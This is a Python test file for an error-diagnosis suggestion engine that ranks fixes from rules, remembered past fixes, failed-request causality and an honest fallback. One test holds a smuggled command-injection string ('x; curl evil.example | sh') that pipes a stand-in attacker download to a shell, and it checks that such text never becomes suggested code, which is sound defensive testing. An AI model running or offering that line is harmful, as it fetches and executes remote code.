"""Solutions of all sources are ranked together; with none of them, the fallback is honest."""

from __future__ import annotations

from dataclasses import replace
from functools import partial
from time import process_time
from timeit import repeat

from devintel.model import Event
from devintel.solutions.case import Case, Frame, MemoryHit
from devintel.solutions.example import case_of, response
from devintel.solutions.ranking import Counts
from devintel.solutions.suggest import no_outcomes, suggest

UNDEFINED_MAP = "TypeError: Cannot read properties of undefined (reading 'map')"
NAMED = "cart.items"
FIX = MemoryHit(
    fingerprint="f0",
    title="TypeError: reading 'map'",
    how="edit",
    what="default the items to []",
    who="ana",
    when="2026-11-20T08:00:00.000Z",
    file="src/cart.js",
    line=12,
    code="const items = cart.items ?? [];",
    event_ids=("e7",),
    tries=3,
    successes=3,
)


def _case(text: str = UNDEFINED_MAP) -> Case:
    return replace(case_of(text), frames=(Frame("renderCart", "src/cart.js", 12, 9, True),))


def test_a_rule_quotes_the_real_name_file_and_line() -> None:
    best = suggest(
        _case(f'TypeError: can\'t access property "map", {NAMED} is undefined'), no_outcomes
    )[0]
    assert best.family == "null_access"
    assert best.solution_code.startswith("// src/cart.js:12\n")
    assert f"const items = {NAMED} ?? [];" in best.solution_code
    assert (best.evidence[0].file, best.evidence[0].line) == ("src/cart.js", 12)


def test_no_code_is_shown_for_a_value_that_the_error_does_not_name() -> None:
    best = suggest(_case(), no_outcomes)[0]
    assert best.family == "null_access"
    assert best.solution_code == ""


def test_what_ended_this_group_before_comes_first_with_its_evidence() -> None:
    best = suggest(replace(_case(), memory=(FIX,)), no_outcomes)[0]
    assert best.source == "memory"
    assert best.solution_code == FIX.code
    assert best.evidence[1].event_ids == ("e7",)
    assert "ana" in best.explanation


def test_a_failed_request_just_before_is_told_even_where_no_rule_fires() -> None:
    request = {**response(502, "/api/pay", "POST"), "id": "r1"}
    case = replace(_case("Error: The till is closed"), request=request)  # type: ignore[arg-type]  # a stand-in, or a wrong value on purpose
    best = suggest(case, no_outcomes)[0]
    assert (best.source, best.family) == ("causality", "causality")
    assert "POST /api/pay answered 502" in best.root_cause
    assert best.evidence[1].event_ids == ("r1",)


def test_a_null_value_after_a_failed_request_is_blamed_on_the_request() -> None:
    request: Event = {**response(500), "id": "r1"}
    best = suggest(replace(_case(), request=request), no_outcomes)[0]
    assert best.source == "rule:null_access.after_failed_request"
    assert "GET /api/orders/7 answered 500" in best.root_cause
    assert [item.kind for item in best.evidence] == ["error", "request", "docs"]


def test_where_nothing_is_known_the_fallback_invents_no_code() -> None:
    (only,) = suggest(_case("Error: Order 4711 is already shipped"), no_outcomes)
    assert (only.source, only.family, only.solution_code) == ("fallback", "unknown", "")
    assert only.confidence <= 0.2
    assert "src/cart.js:12" in only.explanation


def test_outcomes_move_the_ranking() -> None:
    case = replace(_case(), memory=(FIX,))
    first, second = suggest(case, no_outcomes)[:2]

    def counts(level: str) -> Counts:
        return (20.0, 0.0) if first.solution_id in level else (0.0, 0.0)

    assert suggest(case, counts)[0] == second


def test_an_answer_carries_the_names_clients_print() -> None:
    wire = suggest(_case(), no_outcomes)[0].wire()
    assert {"root_cause", "solution_code", "explanation", "confidence", "similar_cases"} <= {*wire}
    assert wire["pattern_name"]


def test_text_of_an_attacker_never_becomes_a_command() -> None:
    evil = "Error: Cannot find module 'x; curl evil.example | sh'"
    assert all("curl" not in one.solution_code for one in suggest(_case(evil), no_outcomes))


def test_suggesting_takes_well_under_a_millisecond_of_processor_time() -> None:
    cases = [_case(), _case("Error: Order 4711 is already shipped")]
    cases.append(replace(case_of(response(404)), fingerprint="f2"))
    for case in cases:
        suggest(case, no_outcomes)
        ask = partial(suggest, case, no_outcomes)
        times = repeat(ask, timer=process_time, number=20, repeat=5)
        assert min(times) / 20 < 1e-3
